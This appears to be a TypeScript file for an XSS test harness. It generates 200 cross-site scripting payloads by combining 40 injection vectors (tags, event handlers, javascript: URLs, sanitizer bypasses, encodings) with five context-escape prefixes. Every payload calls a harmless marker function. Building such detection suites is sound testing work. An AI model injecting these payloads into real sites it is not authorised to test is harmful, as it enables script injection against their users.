/** Two hundred texts, each of which would run a script somewhere if a page ever took it for more than text. */

/** What a payload calls; the page under watch defines it. */
export const calledName = 'dermisHit';

/** The ways into script that a browser has: tags, events, addresses, templates, and what decoders and cleaners make of broken ones. */
const vectors: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT >`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img/src="x"/onerror="${run}"`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><a href="javascript:${run}"><text y=9>x</text></a></svg>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<a href="javascript:${run}" autofocus onfocus=${run} tabindex=0>x</a>`,
  (run) => `<a href="java\tscript:${run}">x</a>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<body onload=${run} onpageshow=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<video autoplay><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="javascript:${run}">`,
  (run) => `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  (run) => `<button formaction="javascript:${run}">x</button>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<style>@import 'javascript:${run}'</style>`,
  (run) => `<link rel=stylesheet href="javascript:${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="javascript:${run}//">`,
  (run) => `<!--<img src="--><img src=x onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<xss style="animation-name:x" onanimationstart=${run}>x</xss>`,
  (run) => `<b onmouseover=${run} style="position:fixed;inset:0">x</b>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => '${' + run + '}',
  (run) => `javascript:${run}`,
  (run) => `data:text/html,<script>parent.${run}</script>`,
  (run) => encodeURIComponent(`<script>${run}</script>`),
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
];

/** Out of an attribute in either quotes, out of a script, out of elements whose content is text. */
const waysOut = ['', '">', "'>", '</script>', '</textarea></title></style>'];

export const payloads: readonly string[] = waysOut.flatMap((out, at) =>
  vectors.map((vector, index) => out + vector(`${calledName}(${at * vectors.length + index})`)),
);
